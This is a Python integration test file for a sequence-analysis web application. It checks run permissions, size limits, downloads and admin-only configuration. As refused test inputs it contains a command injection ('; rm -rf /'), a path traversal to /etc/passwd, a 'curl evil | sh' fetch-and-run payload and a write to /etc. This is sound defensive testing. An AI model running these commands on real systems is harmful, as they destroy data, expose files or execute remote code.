"""Integration tests of the analyses programs (get_data, get_analysis, results, config,
my_account): permissions of run requests, the disk guard, bad analyses, missing files, downloads,
configs and pre-processes only administrators may define."""
import json
import os
import sys
import tempfile

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "fixtures"))
import analyses_fixtures as fx  # noqa: E402
import vtest  # noqa: E402

FASTA = ">r1\nACGTACGTACGTTTGACCAGTAGCTAGCTAGGACTGACTAGCATCGATCGATCGACT\n"


def _lab_set(env, run=True):
    email, pw, uid, c = fx.new_lab_user(env, run=run)
    ss, patient = fx.make_set(env, fx.personal_group(env, uid), last=env.unique("Cgi"))
    sf, stored = fx.add_file(env, ss, "a.fa", content=FASTA)
    return c, uid, ss, sf


def _conf_with(env, **keys):
    fd, path = tempfile.mkstemp(prefix="vidjil-cgi-", suffix=".conf")
    with os.fdopen(fd, "w") as f:
        f.write(open(env.conf).read() + "\n" + "".join("%s = %s\n" % kv for kv in keys.items()))
    return path


def test_run_request_permissions_and_file_membership(env):
    c, uid, ss, sf = _lab_set(env)
    cid = fx.make_config(env)
    hidden_cfg = fx.make_config(env, public=False)
    other_c, other_uid, other_ss, other_sf = _lab_set(env)
    # Another lab's file, through one's own set: refused (the original analysed it, model.md §9.1-6).
    a = fx.request_run(c, ss, other_sf, cid)
    assert a["success"] == "false" and "not part of this sample_set" in a["message"], a
    # Someone else's set.
    b = fx.request_run(c, other_ss, other_sf, cid)
    assert b["success"] == "false" and "permission to launch process" in b["message"], b
    # A config the user's groups may not use.
    d = fx.request_run(c, ss, sf, hidden_cfg)
    assert d["success"] == "false" and "permission needed for config" in d["message"], d
    # Without the `run` right.
    norun_c, _, norun_ss, norun_sf = _lab_set(env, run=False)
    e = fx.request_run(norun_c, norun_ss, norun_sf, cid)
    assert e["success"] == "false" and "permission to launch" in e["message"], e
    f = fx.request_run(c, ss, sf, cid, grep_reads="ACGT; rm -rf /")
    assert f["success"] == "false" and "DNA sequence" in f["message"], f
    assert env.sql("SELECT COUNT(*) FROM results_file WHERE sequence_file_id IN (?, ?, ?)", sf, other_sf, norun_sf) == [["0"]]
    # Then a good one, and its double click.
    ok = fx.request_run(c, ss, sf, cid)
    dup = fx.request_run(c, ss, sf, cid)
    assert dup["success"] == "false" and dup["results_file_id"] == ok["results_file_id"] and "already" in dup["message"]
    assert env.sql("SELECT COUNT(*) FROM results_file WHERE sequence_file_id = ?", sf) == [["1"]]
    assert fx.run_runner(env).returncode == 0
    # The other user cannot follow it.
    poll = other_c.post("/vidjil/default/checkProcess", query={"processId": ok["results_file_id"]}).json()
    assert poll["status"] == "FAILED" and poll["message"] == "You don't have access to this sample", poll


def test_run_all_request_only_files_of_the_set_and_no_duplicates(env):
    c, uid, ss, sf = _lab_set(env)
    sf2, _ = fx.add_file(env, ss, "b.fa", content=FASTA)
    _, _, _, foreign = _lab_set(env)
    cid = fx.make_config(env)
    fx.request_run(c, ss, sf, cid)
    a = c.post("/vidjil/default/run_all_request", query=[("sample_set_id", ss), ("config_id", cid),
                                                         ("sequence_file_ids", sf), ("sequence_file_ids", sf2),
                                                         ("sequence_file_ids", foreign)]).json()
    assert a["success"] == "true" and a["redirect"] == "reload" and a["message"].startswith("1 "), a
    rows = env.sql("SELECT sequence_file_id FROM results_file WHERE config_id = ? ORDER BY sequence_file_id", cid)
    assert rows == [[str(sf)], [str(sf2)]]
    assert fx.run_runner(env).returncode == 0


def test_disk_guard_refuses_runs(env):
    c, uid, ss, sf = _lab_set(env)
    cid = fx.make_config(env)
    conf = _conf_with(env, FS_LOCK_THRESHOLD=101)
    try:
        a = env.cgi("results", "POST", "/vidjil/default/run_request", cookie=fx.cookie(c), conf=conf,
                    query="sequence_file_id=%d&sample_set_id=%d&config_id=%d" % (sf, ss, cid))
        assert a.json() == {"success": "false", "message": "Runs are temporarily disabled. System admins have been "
                                                           "made aware of the situation."}, a
    finally:
        os.unlink(conf)
    assert env.sql("SELECT COUNT(*) FROM results_file WHERE sequence_file_id = ?", sf) == [["0"]]


def test_save_analysis_refuses_invalid_or_huge_analyses(env):
    c, uid, ss, sf = _lab_set(env)
    bad = c.post("/vidjil/default/save_analysis", query={"sample_set_id": ss}, multipart=True,
                 files=[("fileToUpload", "blob", b'{"clones": [1, 2')])
    assert bad.status == 400 and "not saved" in bad.json()["message"], bad
    notobj = c.post("/vidjil/default/save_analysis", query={"sample_set_id": ss}, multipart=True,
                    files=[("fileToUpload", "blob", b'[1, 2]')])
    assert notobj.json()["success"] == "false"
    conf = _conf_with(env, ANALYSIS_MAX_SIZE=1000)
    try:
        body, ctype = vtest.encode_multipart([], [("fileToUpload", "blob", json.dumps({"clones": ["x" * 2000]}).encode())])
        big = env.cgi("get_analysis", "POST", "/vidjil/default/save_analysis", query="sample_set_id=%d" % ss, body=body,
                      content_type=ctype, cookie=fx.cookie(c), conf=conf)
        assert big.status == 413 and "too large" in big.json()["message"], big
    finally:
        os.unlink(conf)
    conf = _conf_with(env, MAX_BODY_SIZE=10000)
    try:
        body, ctype = vtest.encode_multipart([], [("fileToUpload", "blob", b"{" + b" " * 20000 + b"}")])
        huge = env.cgi("get_analysis", "POST", "/vidjil/default/save_analysis", query="sample_set_id=%d" % ss, body=body,
                       content_type=ctype, cookie=fx.cookie(c), conf=conf)
        assert huge.status == 413, huge
    finally:
        os.unlink(conf)
    assert env.sql("SELECT COUNT(*) FROM analysis_file WHERE sample_set_id = ?", ss) == [["0"]]
    stranger = fx.login(env, *env.new_user()[:2])
    denied = stranger.post("/vidjil/default/save_analysis", query={"sample_set_id": ss}, multipart=True,
                           files=[("fileToUpload", "blob", b'{"clones": []}')])
    assert denied.json() == {"success": "false", "message": "you do not have permission to save changes on this sample set"}
    # save_analysis never writes infos of files outside the set (model.md §9.1-6).
    _, _, _, foreign_sf = _lab_set(env)
    ok = c.post("/vidjil/default/save_analysis", query={"sample_set_id": ss}, multipart=True,
                form=[("samples_id", "%d,%d" % (sf, foreign_sf)), ("samples_info", "mine,theirs")],
                files=[("fileToUpload", "blob", b'{"clones": []}')]).json()
    assert ok["success"] == "true"
    assert env.sql("SELECT info FROM sequence_file WHERE id = ?", sf) == [["mine"]]
    assert env.sql("SELECT info FROM sequence_file WHERE id = ?", foreign_sf) == [[""]]


def test_missing_files_on_disk_give_clear_404s(env):
    c, uid, ss, sf = _lab_set(env)
    cid = fx.make_config(env)
    nothing = c.post("/vidjil/default/get_data", query={"sample_set_id": ss, "config": cid}).json()
    assert nothing == {"success": "false", "message": "get_data (%d) c%d : file not found" % (ss, cid)}
    rid = fx.request_run(c, ss, sf, cid)["results_file_id"]
    assert fx.run_runner(env).returncode == 0
    fused = env.sql("SELECT fused_file FROM fused_file WHERE sample_set_id = ?", ss)[0][0]
    data_file = env.sql("SELECT data_file FROM results_file WHERE id = ?", rid)[0][0]
    rdir = fx.conf_values(env)["DIR_RESULTS"]
    os.unlink(os.path.join(rdir, fused))
    os.unlink(os.path.join(rdir, data_file))
    a = c.post("/vidjil/default/get_data", query={"sample_set_id": ss, "config": cid})
    assert a.status == 404 and "missing on the server" in a.json()["message"], a
    b = c.get("/vidjil/default/download/" + data_file)
    assert b.status == 404 and "missing on the server" in b.json()["message"], b
    c.post("/vidjil/default/save_analysis", query={"sample_set_id": ss}, multipart=True,
           files=[("fileToUpload", "blob", b'{"clones": []}')])
    analysis = env.sql("SELECT analysis_file FROM analysis_file WHERE sample_set_id = ?", ss)[0][0]
    os.unlink(os.path.join(rdir, analysis))
    g = c.post("/vidjil/default/get_analysis", query={"sample_set_id": ss})
    assert g.status == 404 and "missing on the server" in g.json()["message"], g


def test_downloads_check_the_object_and_can_use_x_accel(env):
    c, uid, ss, sf = _lab_set(env)
    cid = fx.make_config(env)
    rid = fx.request_run(c, ss, sf, cid)["results_file_id"]
    assert fx.run_runner(env).returncode == 0
    data_file = env.sql("SELECT data_file FROM results_file WHERE id = ?", rid)[0][0]
    for name in ("..%2F..%2Fetc%2Fpasswd", "sequence_file.data_file.0000.YQ==.fa", "nothing-here.vidjil"):
        assert c.get("/vidjil/default/download/" + name).status == 404
    conf = _conf_with(env, X_ACCEL_RESULTS="/vidjil-results/")
    try:
        a = env.cgi("results", "GET", "/vidjil/default/download/" + data_file, query="filename=r.vidjil",
                    cookie=fx.cookie(c), conf=conf)
        assert a.status == 200 and a.header("x-accel-redirect") == "/vidjil-results/" + data_file and a.body == b"", a
        assert 'filename="r.vidjil"' in a.header("content-disposition")
        log = env.cgi("results", "GET", "/vidjil/results_file/download", cookie=fx.cookie(c), conf=conf,
                      query="results_file_id=%d&filename=%06d.vidjil.log" % (rid, rid))
        assert log.header("x-accel-redirect") == "/vidjil-results/work/out-%06d/%06d.vidjil.log" % (rid, rid), log
    finally:
        os.unlink(conf)
    plain = _conf_with(env, X_ACCEL_RESULTS="")  # without nginx's help: streamed by the program
    try:
        streamed = env.cgi("results", "GET", "/vidjil/default/download/" + data_file, cookie=fx.cookie(c), conf=plain)
    finally:
        os.unlink(plain)
    assert streamed.status == 200 and json.loads(streamed.body)["reads"]["total"] == [1]
    assert streamed.header("content-length") == str(len(streamed.body))


def test_configs_are_for_administrators_only(env):
    email, pw, uid, c = fx.new_lab_user(env)
    env.sql("INSERT INTO auth_permission (group_id, name, table_name, record_id) VALUES (?, 'create_config', 'config', 0)",
            fx.personal_group(env, uid))
    form = [("config_name", env.unique("evil")), ("config_program", "vidjil"), ("config_command", "-c clones"),
            ("config_fuse_command", "-t 100"), ("config_classification", "-1")]
    a = c.post("/vidjil/config/add_form", form=form, multipart=True).json()
    assert a["success"] == "false" and "only administrators" in a["message"], a
    assert c.post("/vidjil/config/index").json()["message"] == "access denied"
    p = c.post("/vidjil/pre_process/add_form", form=[("pre_process_name", "x"), ("pre_process_command", "cat &file1&")],
               multipart=True).json()
    assert p["success"] == "false" and "only administrators" in p["message"], p
    admin = env.admin()
    shell = admin.post("/vidjil/config/add_form", multipart=True, form=[
        ("config_name", "x"), ("config_program", "vidjil"), ("config_command", "-c clones ; curl evil | sh"),
        ("config_fuse_command", "-t 100")]).json()
    assert shell["success"] == "false" and "without a shell" in shell["message"], shell
    name = env.unique("cfg")
    ok = admin.post("/vidjil/config/add_form", multipart=True, form=[
        ("config_name", name), ("config_program", "vidjil"), ("config_command", "-c clones -g germline/homo-sapiens.g"),
        ("config_fuse_command", "-t 50"), ("config_classification", "1"), ("config_info", "i"),
        ("config_time_limit", "600")]).json()
    assert ok["redirect"] == "config/index" and ok["message"] == "config '%s' added" % name, ok
    cid = ok["config_id"]
    page = admin.post("/vidjil/config/index").text
    for marker in ('id="new_config_btn"', 'id="table_configs"', 'id="config_name_%d"' % cid,
                   'id="config_command_%d"' % cid, 'id="config_fuse_command_%d"' % cid):
        assert marker in page, marker
    assert env.sql("SELECT time_limit FROM vidjil_config_limit WHERE config_id = ?", cid) == [["600"]]
    edit = admin.post("/vidjil/config/edit", query={"id": cid}).text
    assert 'id="config_id"' in edit and 'value="%s"' % name in edit and 'id="add_config_submit"' in edit
    up = admin.post("/vidjil/config/edit_form", multipart=True, form=[
        ("id", str(cid)), ("config_name", name + "2"), ("config_program", "none"), ("config_command", ""),
        ("config_fuse_command", "-t 100"), ("config_classification", "-1")]).json()
    assert up["message"] == "config '%s2' updated" % name, up
    grp = fx.personal_group(env, uid)
    t = admin.post("/vidjil/config/change_permission", query={"config_id": cid, "group_id": grp}).json()
    assert t["message"] == "c%d: access 'access' granted to 'user_%04d'" % (cid, uid), t
    assert 'id="permission_checkbox_%d" checked' % grp in admin.post("/vidjil/config/permission", query={"id": cid}).text
    # Used configs stay.
    ss, _ = fx.make_set(env, grp)
    sf, _ = fx.add_file(env, ss, "c.fa", content=FASTA)
    fx.request_run(c, ss, sf, cid)
    refused = admin.post("/vidjil/config/delete", query={"id": cid}).json()
    assert refused["success"] == "false" and "has been used" in refused["message"]
    assert fx.run_runner(env).returncode == 0
    unused = fx.make_config(env)
    assert admin.post("/vidjil/config/delete", query={"id": unused}).json()["message"] == "config '%d' deleted" % unused


def test_pre_process_pages(env):
    admin = env.admin()
    bad = admin.post("/vidjil/pre_process/add_form", multipart=True, form=[
        ("pre_process_name", "x"), ("pre_process_command", "cat &file1& &file2& > /etc/x")]).json()
    assert bad["success"] == "false", bad
    name = env.unique("merge")
    ok = admin.post("/vidjil/pre_process/add_form", multipart=True, form=[
        ("pre_process_name", name), ("pre_process_command", "cat &file1& &file2& > &result&"),
        ("pre_process_info", "concatenate")]).json()
    pid = ok["pre_process_id"]
    assert ok["message"] == "pre_process '%s' added" % name
    page = admin.post("/vidjil/pre_process/index").text
    for marker in ('id="page_preprocess"', 'id="new_preprocess_btn"', 'id="preprocess_line_%d"' % pid,
                   'id="preprocess_command_%d"' % pid):
        assert marker in page, marker
    assert 'id="preprocess_update_submit"' in admin.post("/vidjil/pre_process/edit", query={"id": pid}).text
    assert 'id="delete_preprocess_confirm_btn"' in admin.post("/vidjil/pre_process/confirm", query={"id": pid}).text
    assert admin.post("/vidjil/pre_process/delete", query={"id": pid}).json()["message"] == "pre_process '%d' deleted" % pid


def test_my_account_pages(env):
    c, uid, ss, sf = _lab_set(env)
    cid = fx.make_config(env)
    rid = fx.request_run(c, ss, sf, cid)["results_file_id"]
    assert fx.run_runner(env).returncode == 0
    index = c.post("/vidjil/my_account/index")
    assert index.status == 200 and 'id="page_usage"' in index.text and 'id="user_%04d_info"' % uid in index.text
    assert "1 sets, 1 samples" in index.text and "C: 1" in index.text, index.text
    jobs = c.post("/vidjil/my_account/jobs").text
    assert 'id="table_process"' in jobs and 'id="process_line_%d"' % rid in jobs and "COMPLETED" in jobs
    # The completed job opens its result in the client: the set id and config of this run.
    assert "myUrl.loadUrl(db, {'sample_set_id': '%d', 'config': %d}" % (ss, cid) in jobs, jobs


def test_results_file_delete_checks_the_set_and_refuses(env):
    c, uid, ss, sf = _lab_set(env)
    sf2, _ = fx.add_file(env, ss, "b.fa", content=FASTA.replace("r1", "r2"))
    cid = fx.make_config(env)
    r1 = fx.request_run(c, ss, sf, cid)["results_file_id"]
    r2 = fx.request_run(c, ss, sf2, cid)["results_file_id"]
    assert fx.run_runner(env).returncode == 0
    other_c, _, other_ss, _ = _lab_set(env)
    assert other_c.post("/vidjil/results_file/delete", query={"results_file_id": r1, "sample_set_id": other_ss}).json() == \
        {"message": "access denied"}
    page = c.post("/vidjil/results_file/confirm", query={"results_file_id": r1, "sample_set_id": ss}).text
    assert 'id="delete_button"' in page and 'id="cancel_button"' in page
    a = c.post("/vidjil/results_file/delete", query={"results_file_id": r1, "sample_set_id": ss}).json()
    assert a["success"] == "true" and a["message"] == "[%d] (%d) c%d: process deleted" % (r1, ss, cid), a
    d = c.post("/vidjil/default/get_data", query={"sample_set_id": ss, "config": cid}).json()
    assert d["samples"]["number"] == 1 and d["samples"]["results_file_id"] == [r2], d["samples"]
    c.post("/vidjil/results_file/delete", query={"results_file_id": r2, "sample_set_id": ss})
    assert env.sql("SELECT COUNT(*) FROM fused_file WHERE sample_set_id = ? AND config_id = ?", ss, cid) == [["0"]]
    assert env.admin().post("/vidjil/results_file/index").status == 200
    assert c.post("/vidjil/results_file/index").json()["message"] == "access denied"
